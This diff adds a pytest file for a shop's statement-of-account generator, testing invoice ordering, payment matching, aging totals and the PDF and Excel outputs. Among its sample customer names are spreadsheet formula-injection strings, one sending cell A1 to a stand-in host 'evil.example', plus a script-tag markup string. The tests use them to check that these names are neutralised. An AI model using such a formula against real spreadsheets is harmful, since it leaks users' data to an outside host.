@@ -1,0 +1,334 @@
+"""The statement of account: its figures agree with aging, its PDF and Excel are real files."""
+
+from __future__ import annotations
+
+import io
+from datetime import date, datetime, timedelta
+from pathlib import Path
+
+import openpyxl
+import pypdf
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from core.aging import customer_balances
+from core.i18n import Lang
+from core.ledger import Invoice, Ledger, Payment, Source, build_ledger, customer_key
+from core.money import format_rupiah
+from core.report import load_files
+from core.statement import (
+    UNICODE_FONTS,
+    BusinessInfo,
+    Statement,
+    UnknownCustomerError,
+    statement_pdf,
+    statement_rows,
+    statement_xlsx,
+)
+
+TODAY = date(2026, 11, 23)
+SAMPLE = Path(__file__).resolve().parent.parent / "sample_data"
+SHOP = BusinessInfo("Toko Sumber Rejeki", "Jl. Kapasan No. 112, Surabaya", "031-3531234")
+# Both ways of drawing text: the Unicode TrueType font (when this machine has one) and the
+# built-in Latin-1 font every machine has.
+FONTS = pytest.mark.parametrize("fonts", [UNICODE_FONTS, ()], ids=["ttf", "core"])
+
+
+def inv(
+    n: int, customer: str, amount: int, paid: int, days_late: int, number: str | None = None
+) -> Invoice:
+    due = TODAY - timedelta(days=days_late)
+    return Invoice(
+        f"F-{n:03d}" if number is None else number,
+        customer,
+        due - timedelta(days=30),
+        due,
+        "column",
+        amount,
+        paid,
+        Source("buku.xlsx", "Nov", n + 2),
+        phone="0812-3456-7890",
+    )
+
+
+def many(customer: str, count: int) -> Ledger:
+    """``count`` open invoices of ``customer``, due one day apart, some partly paid."""
+    return build_ledger(
+        inv(i, customer, 1_000_000 + 25_000 * i, 100_000 * (i % 3), 100 - 2 * i)
+        for i in range(count)
+    )
+
+
+def pdf_text(data: bytes) -> tuple[int, str]:
+    reader = pypdf.PdfReader(io.BytesIO(data))
+    return len(reader.pages), "\n".join(page.extract_text() for page in reader.pages)
+
+
+@pytest.fixture(scope="module")
+def sample() -> Ledger:
+    _, ledger = load_files([SAMPLE / "buku_piutang_toko_sumber_rejeki.xlsx"])
+    return ledger
+
+
+def test_open_invoices_come_first_by_due_date_then_paid_ones() -> None:
+    ledger = build_ledger(
+        [
+            inv(1, "Toko A", 100_000, 100_000, 40),
+            inv(2, "Toko A", 300_000, 50_000, 5),
+            inv(3, "TOKO  A", 200_000, 0, 20),
+            inv(4, "Toko A", 150_000, 0, -10),
+            inv(5, "Toko B", 999_000, 0, 20),
+        ]
+    )
+    statement = statement_rows(ledger, customer_key("toko a"), TODAY)
+    assert statement.name == "Toko A"
+    assert statement.phone == "0812-3456-7890"
+    assert [line.number for line in statement.lines] == ["F-003", "F-002", "F-004", "F-001"]
+    assert [line.days_late for line in statement.lines] == [20, 5, 0, 0]
+    assert [line.number for line in statement.paid_lines] == ["F-001"]
+    totals = statement.totals
+    assert (totals.amount, totals.paid, totals.outstanding, totals.overdue) == (
+        750_000,
+        150_000,
+        600_000,
+        450_000,
+    )
+    assert statement.open_totals.amount == 650_000
+    assert statement.aging == {
+        "current": 150_000,
+        "1-30": 450_000,
+        "31-60": 0,
+        "61-90": 0,
+        "90+": 0,
+    }
+
+
+def test_payments_are_matched_by_invoice_number_or_by_customer() -> None:
+    source = Source("buku.xlsx", "Pembayaran", 2)
+    ledger = build_ledger(
+        [inv(1, "Toko A", 500_000, 0, 10), inv(2, "Toko B", 500_000, 0, 10)],
+        [
+            Payment(100_000, source, "f-001", "", date(2026, 11, 10)),
+            Payment(50_000, source, "", "TOKO A", date(2026, 11, 1)),
+            Payment(70_000, source, "F-002", "Toko B", date(2026, 11, 2)),
+            Payment(10_000, source, "X-999", "Toko A", None),
+            Payment(20_000, source, "X-998", "", date(2026, 11, 3)),
+        ],
+    )
+    statement = statement_rows(ledger, customer_key("Toko A"), TODAY)
+    assert [p.amount for p in statement.payments] == [50_000, 100_000, 10_000]
+
+
+def test_a_shared_invoice_number_goes_to_the_customer_the_payment_names() -> None:
+    source = Source("buku.xlsx", "Pembayaran", 2)
+    ledger = build_ledger(
+        [inv(1, "Toko A", 500_000, 0, 10, "F-1"), inv(2, "Toko B", 400_000, 0, 10, "F-1")],
+        [Payment(100_000, source, "F-1", "Toko B", date(2026, 11, 10))],
+    )
+    assert statement_rows(ledger, customer_key("Toko A"), TODAY).payments == ()
+    assert len(statement_rows(ledger, customer_key("Toko B"), TODAY).payments) == 1
+
+
+def test_an_unknown_customer_is_an_error() -> None:
+    with pytest.raises(UnknownCustomerError):
+        statement_rows(many("Toko A", 2), customer_key("Toko Z"), TODAY)
+
+
+def assert_agrees_with_aging(ledger: Ledger, as_of: date) -> None:
+    for balance in customer_balances(ledger, as_of):
+        statement = statement_rows(ledger, balance.key, as_of)
+        assert statement.name == balance.name
+        assert statement.totals.outstanding == balance.outstanding
+        assert statement.totals.overdue == balance.overdue
+        assert dict(statement.aging) == balance.aging
+        assert len(statement.lines) == balance.invoices
+        assert len(statement.open_lines) == balance.open_invoices
+        assert sum(statement.aging.values()) == statement.totals.outstanding
+
+
+def test_totals_equal_customer_balances_on_the_sample_ledger(sample: Ledger) -> None:
+    assert_agrees_with_aging(sample, TODAY)
+
+
+@settings(max_examples=40, deadline=None)
+@given(
+    st.lists(
+        st.tuples(
+            st.sampled_from(["A", "a ", "B", "C"]),
+            st.integers(0, 10**9),
+            st.integers(0, 10**9),
+            st.integers(-60, 400),
+        ),
+        min_size=1,
+        max_size=25,
+    )
+)
+def test_totals_always_equal_customer_balances(rows: list[tuple[str, int, int, int]]) -> None:
+    ledger = build_ledger(inv(i, c, a, p, d) for i, (c, a, p, d) in enumerate(rows))
+    assert_agrees_with_aging(ledger, TODAY)
+
+
+@FONTS
+def test_the_pdf_is_a_one_page_letter_with_the_name_total_and_date(
+    fonts: tuple[tuple[str, str], ...],
+) -> None:
+    statement = statement_rows(
+        many("Toko Makmur Jaya", 15), customer_key("toko makmur jaya"), TODAY
+    )
+    data = statement_pdf(statement, business=SHOP, as_of=TODAY, fonts=fonts)
+    assert data.startswith(b"%PDF")
+    pages, text = pdf_text(data)
+    assert pages == 1
+    total = format_rupiah(statement.totals.outstanding)
+    assert total.startswith("Rp ") and total.count(".") == 2
+    for expected in (
+        "PERNYATAAN PIUTANG",
+        "Kepada Yth. Toko Makmur Jaya",
+        "Per tanggal 23 Nov 2026",
+        "Toko Sumber Rejeki",
+        "Terlambat",
+        "Umur piutang",
+        "Hormat kami",
+        total,
+    ):
+        assert expected in text, expected
+
+
+def test_the_pdf_in_english() -> None:
+    statement = statement_rows(many("Joko Susilo", 3), customer_key("Joko Susilo"), TODAY)
+    _, text = pdf_text(statement_pdf(statement, business=SHOP, lang="en"))
+    assert "STATEMENT OF ACCOUNT" in text
+    assert "To: Joko Susilo" in text
+    assert "As of 23 Nov 2026" in text
+
+
+def test_a_plain_name_is_addressed_as_bapak_ibu() -> None:
+    statement = statement_rows(many("Joko Susilo", 3), customer_key("Joko Susilo"), TODAY)
+    _, text = pdf_text(statement_pdf(statement, business=SHOP))
+    assert "Kepada Yth. Bapak/Ibu Joko Susilo" in text
+
+
+@FONTS
+def test_sixty_invoices_break_across_pages_with_the_header_repeated(
+    fonts: tuple[tuple[str, str], ...],
+) -> None:
+    statement = statement_rows(many("Toko Besar", 60), customer_key("Toko Besar"), TODAY)
+    reader = pypdf.PdfReader(io.BytesIO(statement_pdf(statement, business=SHOP, fonts=fonts)))
+    assert len(reader.pages) >= 2
+    texts = [page.extract_text() for page in reader.pages]
+    table_pages = [text for text in texts if "F-0" in text]
+    assert len(table_pages) >= 2
+    assert all("No. Faktur" in text for text in table_pages)
+    assert all("Toko Sumber Rejeki" in text for text in texts)
+    assert sum(text.count("F-0") for text in texts) == 60
+    assert format_rupiah(statement.totals.outstanding) in texts[-1] + texts[-2]
+
+
+STRANGE_NAMES = [
+    "Toko Berkah 🙏🏽 Jaya",
+    "王小明商店",
+    '=HYPERLINK("http://evil.example/?q="&A1,"Klik")',
+    "<script>alert('x')</script> Toko **Tebal**",
+    "متجر النور",
+    "Café Ñoño “Sentosa” — Ü\u200d\u0301",
+    "Toko\tTab\nBaris Baru\x00\x07",
+    "PT " + "Sangat Panjang " * 20,
+]
+
+
+@FONTS
+@pytest.mark.parametrize("name", STRANGE_NAMES)
+def test_strange_names_do_not_break_the_pdf(name: str, fonts: tuple[tuple[str, str], ...]) -> None:
+    ledger = build_ledger([inv(1, name, 1_250_000, 0, 12), inv(2, name, 300_000, 0, 2)])
+    statement = statement_rows(ledger, customer_key(name), TODAY)
+    business = BusinessInfo(name, name, name)
+    data = statement_pdf(statement, business=business, as_of=TODAY, fonts=fonts)
+    pages, text = pdf_text(data)
+    assert pages >= 1
+    assert "Rp 1.550.000" in text
+
+
+@FONTS
+def test_formula_and_markup_names_are_printed_as_text(fonts: tuple[tuple[str, str], ...]) -> None:
+    name = '=HYPERLINK("x") <b>Toko</b> **Maju**'
+    statement = statement_rows(many(name, 2), customer_key(name), TODAY)
+    _, text = pdf_text(statement_pdf(statement, business=SHOP, fonts=fonts))
+    assert name in text.replace("\n", " ")
+
+
+def test_no_open_invoices_is_a_thank_you_not_a_demand() -> None:
+    ledger = build_ledger([inv(1, "Toko Lunas", 500_000, 500_000, 30)])
+    statement = statement_rows(ledger, customer_key("Toko Lunas"), TODAY)
+    _, text = pdf_text(statement_pdf(statement, business=SHOP))
+    assert "tidak ada tagihan yang belum lunas" in text
+    assert "Mohon kiranya" not in text
+
+
+def test_the_date_given_must_be_the_statements_date() -> None:
+    statement = statement_rows(many("Toko A", 2), customer_key("Toko A"), TODAY)
+    with pytest.raises(ValueError, match="2026-11-23"):
+        statement_pdf(statement, as_of=TODAY + timedelta(days=1))
+    with pytest.raises(ValueError):
+        statement_xlsx(statement, as_of=TODAY - timedelta(days=1))
+
+
+def test_the_pdf_is_the_same_bytes_every_time() -> None:
+    statement = statement_rows(many("Toko A", 4), customer_key("Toko A"), TODAY)
+    assert statement_pdf(statement, business=SHOP) == statement_pdf(statement, business=SHOP)
+
+
+def test_a_sample_customer_renders(sample: Ledger) -> None:
+    top = customer_balances(sample, TODAY)[0]
+    statement = statement_rows(sample, top.key, TODAY)
+    pages, text = pdf_text(statement_pdf(statement, business=SHOP, as_of=TODAY))
+    assert pages == 1
+    assert top.name in text
+    assert format_rupiah(top.outstanding) in text
+
+
+def open_sheets(statement: Statement, lang: Lang = "id") -> openpyxl.Workbook:
+    data = statement_xlsx(statement, business=SHOP, as_of=TODAY, lang=lang)
+    return openpyxl.load_workbook(io.BytesIO(data))
+
+
+def test_the_excel_total_equals_the_statement_total(sample: Ledger) -> None:
+    key = customer_balances(sample, TODAY)[0].key
+    statement = statement_rows(sample, key, TODAY)
+    book = open_sheets(statement)
+    assert book.sheetnames == ["Ringkasan", "Faktur belum lunas", "Pembayaran"]
+    sheet = book["Faktur belum lunas"]
+    header = [cell.value for cell in sheet[1]]
+    assert header[:7] == [
+        "No. Faktur",
+        "Tanggal",
+        "Jatuh Tempo",
+        "Jumlah",
+        "Dibayar",
+        "Sisa",
+        "Terlambat (hari)",
+    ]
+    last = [cell.value for cell in sheet[sheet.max_row]]
+    assert last[0] == "Total"
+    assert last[header.index("Sisa")] == statement.totals.outstanding
+    assert last[header.index("Jumlah")] == statement.open_totals.amount
+    assert sheet.max_row == len(statement.open_lines) + 2
+    first = sheet[2]
+    assert isinstance(first[1].value, datetime)
+    assert first[5].number_format == "#,##0"
+    summary = {row[0].value: row[1].value for row in book["Ringkasan"].iter_rows(min_row=2)}
+    assert summary["Pelanggan"] == statement.name
+    assert summary["Sisa tagihan"] == statement.totals.outstanding
+    assert len(list(book["Pembayaran"].iter_rows(min_row=2))) == len(statement.payments)
+
+
+def test_the_excel_in_english_neutralises_a_formula_name() -> None:
+    name = '=HYPERLINK("http://evil.example","Klik")'
+    statement = statement_rows(many(name, 3), customer_key(name), TODAY)
+    book = open_sheets(statement, "en")
+    assert book.sheetnames == ["Summary", "Open invoices", "Payments"]
+    summary = {row[0].value: row[1] for row in book["Summary"].iter_rows(min_row=2)}
+    assert summary["Customer"].value == "'" + name
+    assert summary["Customer"].data_type == "s"
+    last = [cell.value for cell in book["Open invoices"][book["Open invoices"].max_row]]
+    assert last[0] == "Total" and last[5] == statement.totals.outstanding
